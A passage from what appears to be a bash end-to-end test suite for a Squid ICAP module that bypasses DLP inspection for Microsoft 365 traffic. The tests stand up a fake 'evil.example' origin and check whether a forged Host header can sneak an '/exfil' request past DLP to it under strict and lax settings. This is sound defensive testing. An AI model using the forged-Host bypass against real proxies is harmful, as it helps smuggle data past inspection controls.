    local forged="$TLS_CODE|$TLS_BODY"
    log_freeze
    if [[ "$mode" == strict ]]; then
        check_eq 200 "${genuine%%|*}" "intercept genuine Microsoft 365: status"
        check_contains "host=outlook.office.com method=GET path=/e2e/intercept-strict/genuine " "${genuine#*|}" "intercept genuine: origin answer"
        check_prefix "bypass; set=1;" "$(module_decision REQMOD "$base/genuine")" "intercept genuine: module decision"
        check_eq 0 "$(dlp_count REQMOD "$base/genuine")" "intercept genuine: DLP REQMOD"
        check_eq 200 "${other%%|*}" "intercept www.example.org: status"
        check_ge 1 "$(dlp_count REQMOD "http://www.example.org/e2e/intercept-strict/other")" "intercept www.example.org: DLP REQMOD"
        check_eq 409 "${forged%%|*}" "intercept forged Host to the evil address: Squid answers 409 (host_verify_strict on)"
        check_eq 0 "$(cicap_saw o365bypass /e2e/intercept-strict/exfil)" "intercept forged Host: no ICAP request made"
        check_eq 0 "$(origin_requests "$EVIL_LOG" /e2e/intercept-strict/exfil)" "intercept forged Host: the evil origin got nothing"
        check_eq 0 "$(origin_requests "$MAIN_LOG" /e2e/intercept-strict/exfil)" "intercept forged Host: no origin got it"
        check_ge 1 "$(grep -c 'Host header forgery' "$SQUID_DIR/cache.log" || true)" "intercept forged Host: Squid logged the forgery"
    else
        check_eq 200 "${forged%%|*}" "intercept, host_verify_strict off: the forged Host is forwarded"
        check_eq 1 "$(origin_requests "$EVIL_LOG" /e2e/intercept-lax/exfil)" "intercept, host_verify_strict off: ...to the evil origin"
        e2e_log "intercept, host_verify_strict off: module said '$(module_decision REQMOD "$base/exfil")', the DLP saw it: $(dlp_got_body "icpt-$mode") (why the shipped file requires on)"
    fi
}

# ---- main ---------------------------------------------------------------------

check_shipped_files() {
    local f
    for f in "$TLS_CONF" "$INTERCEPT_CONF"; do
        check_eq "$(shipped_icap_lines "$PLAIN_CONF")" "$(shipped_icap_lines "$f")" \
            "${f#"$top_srcdir"/}: module and chain lines as in squid-o365bypass.conf"
    done
    check_eq 1 "$(grep -c '^host_verify_strict on$' "$INTERCEPT_CONF")" "intercept conf: host_verify_strict on"
    check_eq 0 "$(grep -Ec '^[^#]*(sslproxy_cert_error|DONT_VERIFY_PEER)' "$TLS_CONF" || true)" \
        "tls conf: no relaxed certificate checks"
}

print_summary() {
    echo
    echo "o365bypass TLS end-to-end (shipped conf/squid-o365bypass-tls.conf, -intercept.conf)"
    printf '  %s\n' "${SUMMARY[@]}"
    echo "checks: $E2E_CHECKS, failed: $E2E_FAILED_CHECKS"
}

main() {
    local phase before t0
    declare -gA R_CODE=() R_PATH=() R_ISSUER=() R_BODY=() BODY_LEN=() BODY_SHA=()
    declare -ga SUMMARY=() NOT_CHECKED_BODIES=()
    PHASE_NOTE=""
    if [[ "${E2E_TLS_INNER:-}" == intercept ]]; then intercept_inner; return; fi
    tls_require    # before e2e_init: a skip leaves no temp dir behind
    e2e_init tls
    [[ -f "$O3B_MODULE" ]] || hard_error "module not built: $O3B_MODULE"
    mkdir -p "$E2E_DIR/bodies"
    check_shipped_files
    tls_make_pki
    tls_issue evil evil.example
    tls_issue shared cdn.evil.example outlook.office.com
    tls_certgen_db
    start_origin_in origin auto --port 80 --tls-port 443 --tls-port 993 "${TLS_ORIGIN_CERT_ARGS[@]}"
    MAIN_ADDR=$ORIGIN_ADDR MAIN_LOG=$ORIGIN_LOG
    # shellcheck disable=SC2046 # tls_cert_args prints separate words
    start_origin_in evil auto-66 --tls-port 443 $(tls_cert_args evil) \
        --sni-cert "cdn.evil.example=$TLS_PKI/shared.pem:$TLS_PKI/shared.key"
    EVIL_ADDR=$ORIGIN_ADDR EVIL_LOG=$ORIGIN_LOG
    ORIGIN_ADDR=$MAIN_ADDR
    write_hosts
    start_dlp_cicap main
    for phase in ${E2E_PHASES:-$ALL_PHASES}; do
        before=$E2E_CHECKS t0=$SECONDS
        e2e_log "phase $phase"
        case $phase in
            rec|down) phase_rec "$phase" ;;
            relaxed|sni|fake|intercept) "phase_$phase" ;;
            *) hard_error "unknown phase '$phase' (phases: $ALL_PHASES)" ;;
        esac
        SUMMARY+=("$(printf '%-9s %3d checks, %3d s%s' "$phase" $(( E2E_CHECKS - before )) \
            $(( SECONDS - t0 )) "${PHASE_NOTE:+ ($PHASE_NOTE)}")")
        PHASE_NOTE=
    done
    print_summary
    check_done
}

main "$@"
